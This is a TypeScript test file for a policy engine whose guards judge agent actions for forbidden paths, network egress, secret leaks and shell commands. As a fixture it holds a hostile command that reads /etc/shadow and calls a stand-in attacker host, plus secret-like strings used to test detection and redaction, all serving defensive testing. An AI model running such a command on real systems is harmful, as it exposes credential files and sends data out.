import type { JsonValue } from '@countersign/kernel';
import type { GuardResult, Signal } from '@countersign/protocol';
import { evaluateGuards, evaluateGuardsCounted } from '@countersign/policy';
import { describe, expect, it } from 'vitest';
import { actionOf, compiled, judged, noFacts, readVectors, unfold } from './support.ts';

interface GuardCase {
  readonly name: string;
  readonly policy: string;
  readonly kind: string;
  readonly tool?: string;
  readonly params?: JsonValue;
  readonly content?: JsonValue;
  readonly symlinks?: Readonly<Record<string, string>>;
  readonly expect: Readonly<Record<string, Partial<GuardResult> | null>>;
}

const { cases } = readVectors('guards.json') as { readonly cases: readonly GuardCase[] };

// fail_fast stops at the first denial; a case asks about one guard, so it is switched off here and tested by itself.
function allGuards(policy: string, one: GuardCase): readonly GuardResult[] {
  const content = one.content === undefined ? undefined : unfold(one.content);
  const action = actionOf({
    kind: one.kind,
    ...(one.tool !== undefined && { tool: one.tool }),
    ...(one.params !== undefined && { params: unfold(one.params) }),
    ...(typeof content === 'string' && { content }),
  });
  const signals: readonly Signal[] = Object.entries(one.symlinks ?? {}).map(([subject, value]) => ({ kind: 'symlink', subject, value }));
  return judged(policy.includes('\n') ? policy : `extends: ${policy}\nsettings: {fail_fast: false}\n`, action, signals);
}

describe('POL-040 POL-041 POL-042 POL-043 POL-044 POL-045 POL-046 POL-047 POL-048 guards over actions', () => {
  it.each(cases.map((one) => [one.name, one] as const))('%s', (_, one) => {
    const results = allGuards(one.policy, one);
    for (const [guard, expected] of Object.entries(one.expect)) {
      const result = results.find((each) => each.guard === guard);
      if (expected === null) expect(result).toBeUndefined();
      else expect(result).toMatchObject(expected);
    }
  });
});

describe('order, fail_fast and evidence', () => {
  const action = actionOf({ kind: 'shell.exec', params: { command: 'cat /etc/shadow; curl https://evil.example' } });

  it('POL-030 reports in stable order', () => {
    const names = judged('default', action).map((result) => result.guard);
    expect(names).toEqual(['forbidden_path', 'egress_allowlist', 'secret_leak', 'shell_command']);
  });

  it('POL-031 stops at the first denial under fail_fast', () => {
    expect(judged('strict', action).map((result) => result.guard)).toEqual(['forbidden_path']);
  });

  it('POL-032 points at the input', () => {
    const [first] = judged('default', action);
    expect(first?.evidence[0]?.path).toBe('/params/command');
  });

  it('POL-033 never shows a secret in details or message', () => {
    const secret = ['gh', 'p_', 'aB3dE6gH9j'.repeat(4)].join('');
    const results = judged('default', actionOf({ kind: 'file.write', params: { path: '/app/a.ts', content: `x = "${secret}"` } }));
    expect(results.some((result) => result.code === 'secret_detected')).toBe(true);
    expect(JSON.stringify(results)).not.toContain(secret);
    expect(JSON.stringify(results)).not.toContain(secret.slice(6, 30));
  });

  it('POL-034 gives byte-equal results for equal inputs', () => {
    expect(JSON.stringify(judged('default', action))).toBe(JSON.stringify(judged('default', action)));
  });
});

describe('POL-035 what could not be seen is not allowed', () => {
  const input = { action: actionOf({ kind: 'shell.exec' }), state: {} };
  it.each([
    ['paths', 'forbidden_path'],
    ['hosts', 'egress_allowlist'],
    ['secrets', 'secret_leak'],
    ['texts', 'secret_leak'],
    ['bytes', 'secret_leak'],
    ['commands', 'shell_command'],
    ['shell-unknown', 'shell_command'],
  ] as const)('a cut of %s is a denial of %s', (cut, guard) => {
    const results = evaluateGuards(compiled('default'), { ...input, facts: { ...noFacts, cuts: [cut] } });
    expect(results.find((result) => result.guard === guard)).toMatchObject({ allowed: false });
  });
});

describe('POL-036 linear by counted steps', () => {
  const units: readonly (readonly [string, string])[] = [
    ['key beginnings', 'AKIAGH'],
    ['assignments', 'password=sk-'],
    ['dashes', 'sk-ant-'],
    ['spaces', 'aws_secret_access_key   '],
    ['patterns of patches', 'disable disable_'],
    ['added lines', '+\n'],
    ['hunks', '@@ -1 +1 @@\n'],
    ['headers', '--- a\n+++ b\n'],
  ];
  function steps(unit: string, size: number): number {
    const text = unit.repeat(Math.floor(size / unit.length));
    const fact = { span: { path: '/params/patch', start: 0, end: text.length }, role: 'param' as const, layers: [], text, lower: text };
    const action = actionOf({ kind: 'file.patch', params: {} });
    return evaluateGuardsCounted(compiled('permissive'), { action, facts: { ...noFacts, texts: [fact] }, state: {} }).steps;
  }
  it.each(units)('%s', (_, unit) => {
    steps(unit, 4096);
    const small = steps(unit, 65_536);
    const large = steps(unit, 1_048_576);
    expect(large).toBeLessThan(small * 20);
    expect(large).toBeLessThan(1_048_576 * 40);
  });
});
